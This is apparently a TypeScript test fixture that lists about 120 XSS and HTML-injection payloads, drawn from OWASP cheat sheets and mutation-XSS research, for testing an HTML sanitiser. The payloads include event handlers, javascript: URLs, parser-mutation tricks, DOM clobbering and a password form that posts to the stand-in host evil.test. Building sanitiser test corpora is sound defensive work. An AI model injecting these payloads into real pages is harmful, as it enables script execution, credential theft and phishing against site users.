/**
 * HTML that tries to run, load or cover something. Each calls `ran(…)` or loads from `evil.test` if it succeeds. From
 * the OWASP cheat sheets "XSS Filter Evasion", "DOM Clobbering Prevention" and "Cross Site Scripting Prevention", and
 * published mutation XSS attacks on HTML sanitisers.
 */
export const attacks: Record<string, string> = {
  // Scripts
  script: "<script>ran(1)</script>",
  "script from elsewhere": "<script src=https://evil.test/x.js></script>",
  "script in mixed case": "<ScRiPt>ran(1)</sCrIpT>",
  "script that is never closed": "<script>ran(1)//",
  "script within a script": "<scr<script>ipt>ran(1)</scr</script>ipt>",
  "script with a slash for a space": "<script/x>ran(1)</script/x>",
  "script with a null in its name": "<scr\u0000ipt>ran(1)</scr\u0000ipt>",
  "script with a broken tag before it": "<<script>ran(1);//<</script>",
  "script in an attribute that ends early": '<p title="</p><script>ran(1)</script>">x</p>',
  "script of another type": '<script type="module">ran(1)</script>',
  "script as text of entities": "&lt;script&gt;ran(1)&lt;/script&gt;",

  // Event handlers
  "image that fails": "<img src=x onerror=ran(1)>",
  "image that fails, quoted by graves": "<img src=`x` onerror=`ran(1)`>",
  "image that fails, without a space": '<img/src="x"/onerror=ran(1)>',
  "image with a handler on a new line": "<img src=x\nonerror\n=\nran(1)>",
  "image with a handler after a form feed": "<img src=x\fonerror=ran(1)>",
  "image with a handler in entities": "<img src=x onerror=&#114;&#97;&#110;(1)>",
  "image with a tag in its alt": '<img alt="<img src=x onerror=ran(1)>" src="https://evil.test/a.png">',
  "image with a closed quote": '<img src="x` `<script>ran(1)</script>"` `>',
  "handler in mixed case": "<a OnMoUsEoVeR=ran(1)>x</a>",
  "handler that runs by itself": "<input autofocus onfocus=ran(1)>",
  "handler of a details": "<details open ontoggle=ran(1)><summary>x</summary></details>",
  "handler of a body": "<body onload=ran(1) onpageshow=ran(1)>",
  "handler of a video": "<video><source onerror=ran(1)></video>",
  "handler of an audio": "<audio src=x onerror=ran(1)></audio>",
  "handler of an animation": '<p style="animation:x" onanimationstart=ran(1)>x</p>',
  "handler of a paragraph": '<p onclick="ran(1)" onpointerenter="ran(1)" tabindex=1 onfocus=ran(1)>x</p>',
  "handler of a made-up element": "<xss onpointermove=ran(1) style=display:block>x</xss>",
  "handler of a marquee": "<marquee onstart=ran(1)>x</marquee>",
  "popover that runs when it opens":
    "<button popovertarget=x>o</button><p popover id=x onbeforetoggle=ran(1)>x</p>",

  // URLs that run scripts
  "javascript address": '<a href="javascript:ran(1)">x</a>',
  "javascript in mixed case": '<a href="JaVaScRiPt:ran(1)">x</a>',
  "javascript with a tab": '<a href="jav\tascript:ran(1)">x</a>',
  "javascript with a tab as an entity": '<a href="jav&#x09;ascript:ran(1)">x</a>',
  "javascript with line breaks": '<a href="java\nscript\r\n:ran(1)">x</a>',
  "javascript with a line break as an entity": '<a href="jav&NewLine;ascript&colon;ran(1)">x</a>',
  "javascript with a null": '<a href="java\u0000script:ran(1)">x</a>',
  "javascript after control characters": '<a href=" &#14; \u0001javascript:ran(1)">x</a>',
  "javascript in decimal entities": `<a href="${entities("javascript:ran(1)", (code) => `&#${code};`)}">x</a>`,
  "javascript in padded entities": `<a href="${entities("javascript:ran(1)", (code) => `&#${String(code).padStart(7, "0")}`)}">x</a>`,
  "javascript in hexadecimal entities": `<a href="${entities("javascript:ran(1)", (code) => `&#x${code.toString(16)};`)}">x</a>`,
  "javascript as an image": '<img src="javascript:ran(1)">',
  "javascript behind a comment": '<a href="javascript://evil.test/%0aran(1)">x</a>',
  "data address": '<a href="data:text/html,<script>ran(1)</script>">x</a>',
  "data address in base64": '<a href="data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=">x</a>',
  "data address as an image": '<img src="data:image/svg+xml,<svg onload=ran(1)>">',
  "vbscript address": "<a href='vbscript:msgbox(1)'>x</a>",
  "blob address": '<a href="blob:https://evil.test/1">x</a>',
  "file address": '<a href="file:///etc/passwd">x</a>',
  "address without a scheme": '<a href="//evil.test/x">x</a><img src="//evil.test/x.png">',
  "address with backslashes": '<a href="\\\\evil.test/x">x</a><a href="/\\evil.test">x</a>',
  "address in xlink": '<svg><a xlink:href="javascript:ran(1)"><text y=20>x</text></a></svg>',

  // Frames and plug-ins
  "frame with a script": '<iframe src="javascript:ran(1)"></iframe>',
  "frame with its own document": '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
  "frame that is never closed": "<iframe src=https://evil.test/x <",
  frameset: '<frameset><frame src="javascript:ran(1)"></frameset>',
  object: '<object data="javascript:ran(1)" type="text/html"></object>',
  embed: '<embed src="data:text/html,<script>ran(1)</script>">',
  applet: '<applet code="https://evil.test/x.class"></applet>',
  portal: '<portal src="https://evil.test"></portal>',

  // Embedded SVG and MathML
  "svg that loads": "<svg onload=ran(1)></svg>",
  "svg with a script": "<svg><script>ran(1)</script></svg>",
  "svg with a script in entities": "<svg><script>&#114;an(1)</script></svg>",
  "svg that animates an address":
    "<svg><a><animate attributeName=href values=javascript:ran(1) /><text y=20>x</text></a></svg>",
  "svg that sets an address": "<svg><set attributeName=onmouseover to=ran(1)></svg>",
  "svg that uses another": '<svg><use href="data:image/svg+xml,<svg id=x onload=ran(1)>#x"/></svg>',
  "svg with HTML within": "<svg><foreignObject><img src=x onerror=ran(1)></foreignObject></svg>",
  "math with an address":
    '<math><maction actiontype=statusline xlink:href="javascript:ran(1)">x</maction></math>',

  // Mutations when parsed twice
  "style within svg": '<svg></p><style><a id="</style><img src=1 onerror=ran(1)>">',
  "style within math":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran(1)&gt;">',
  "math within a form":
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(1)></style></mglyph></form>",
  "title within svg": "<svg><desc><title><style></title><img src=x onerror=ran(1)></style></desc></svg>",
  noscript: '<noscript><p title="</noscript><img src=x onerror=ran(1)>"></noscript>',
  template: "<template><img src=x onerror=ran(1)></template>",
  "template with a shadow": "<p><template shadowrootmode=open><img src=x onerror=ran(1)></template></p>",
  "raw text: textarea": '<textarea><p title="</textarea><img src=x onerror=ran(1)>"></textarea>',
  "raw text: title": '<title><p title="</title><img src=x onerror=ran(1)>"></title>',
  "raw text: xmp": '<xmp><p title="</xmp><img src=x onerror=ran(1)>"></xmp>',
  "raw text: noembed": '<noembed><p title="</noembed><img src=x onerror=ran(1)>"></noembed>',
  "raw text: plaintext": "<plaintext><img src=x onerror=ran(1)>",
  "raw text: select": "<select><style></select><img src=x onerror=ran(1)></style>",
  "tables that throw out": "<table><a href='javascript:ran(1)'><tr><td><img src=x onerror=ran(1)></table>",

  // Comments and declarations
  "comment that ends early": "<!--><img src=x onerror=ran(1)>-->",
  "comment that ends with a bang": "<!-- --!><img src=x onerror=ran(1)> -->",
  "comment with a tag within": '<!--<img src="--><img src=x onerror=ran(1)//">',
  "comment for one browser": "<!--[if gte IE 4]><script>ran(1)</script><![endif]-->",
  "section of XML": "<![CDATA[<script>ran(1)</script>]]><svg><![CDATA[><img src=x onerror=ran(1)>]]></svg>",
  "instruction of XML": '<?xml version="1.0"?><?x <img src=x onerror=ran(1)>?>',
  doctype: '<!DOCTYPE html [<!ENTITY x "<script>ran(1)</script>">]>&x;',

  // Style
  "style element": "<style>body{display:none}@import url(https://evil.test/x.css);</style>",
  "style that ends early": "<style><p title='</style><script>ran(1)</script>'></style>",
  "style that runs": '<p style="width:expression(ran(1));behavior:url(https://evil.test/x.htc)">x</p>',
  "style that loads": '<p style="background:url(https://evil.test/x.png)">x</p>',
  "style that covers the page":
    '<a href="https://evil.test" style="position:fixed;inset:0;z-index:9999">x</a>',
  "class that covers the page": '<a href="https://evil.test" class="fixed inset-0 z-50">x</a>',
  "background of old":
    '<table background="javascript:ran(1)"><td background="https://evil.test/x.png">x</table>',
  "style sheet": '<link rel=stylesheet href="https://evil.test/x.css">',

  // Changing or leaving the page
  base: '<base href="https://evil.test/"><a href="/x">x</a>',
  refresh: '<meta http-equiv=refresh content="0;url=javascript:ran(1)">',
  "refresh elsewhere": '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  policy: '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  "module preload": '<link rel=modulepreload href="https://evil.test/x.js">',
  form: '<form action="https://evil.test"><input name=password type=password></form>',
  "form by a button": '<button form="post" formaction="javascript:ran(1)">x</button>',
  "image button": '<input type=image src="https://evil.test/x.png" formaction="https://evil.test">',
  isindex: "<isindex type=image src=1 onerror=ran(1)>",
  "many images": '<img srcset="https://evil.test/x.png 1x" sizes="javascript:ran(1)">',
  "picture with sources":
    '<picture><source srcset="https://evil.test/x.png"><img src=x onerror=ran(1)></picture>',
  "image that wants a name":
    '<img src="http://evil.test/x.png" ismap usemap="#m"><map name=m><area href="javascript:ran(1)"></map>',
  "link that tells where": '<a href="https://evil.test" ping="https://evil.test/ping" download>x</a>',
  "link that opens another window": '<a href="https://evil.test" target=_blank>x</a>',
  "names that shadow ours":
    '<a id=document name=cookie></a><img name=ran id=ran src="https://evil.test/x.png">',
  "names of a form": "<form id=post><input name=action><input name=submit></form>",
  "editable text": "<p contenteditable autofocus onfocus=ran(1) accesskey=x>x</p>",
  "import map": '<script type="importmap">{"imports":{"/assets/x.js":"https://evil.test/x.js"}}</script>',
  "rules of speculation":
    '<script type="speculationrules">{"prerender":[{"urls":["https://evil.test"]}]}</script>',

  // Characters and lengths
  "tag that is never closed": "<img src=x onerror=ran(1) ",
  "quote that is never closed": '<a href="https://evil.test',
  "letters of full width": "＜script＞ran(1)＜/script＞",
  "letters of UTF-7": "+ADw-script+AD4-ran(1)+ADw-/script+AD4-",
  "a long s": "<ſcript>ran(1)</ſcript>",
  "elements in elements": `${"<blockquote>".repeat(3000)}<img src=x onerror=ran(1)>`,
  "a tag of many attributes": `<p ${"x=1 ".repeat(3000)} onclick=ran(1)>x</p>`,
};

function entities(text: string, write: (code: number) => string): string {
  return Array.from(text, (letter) => write(letter.charCodeAt(0))).join("");
}
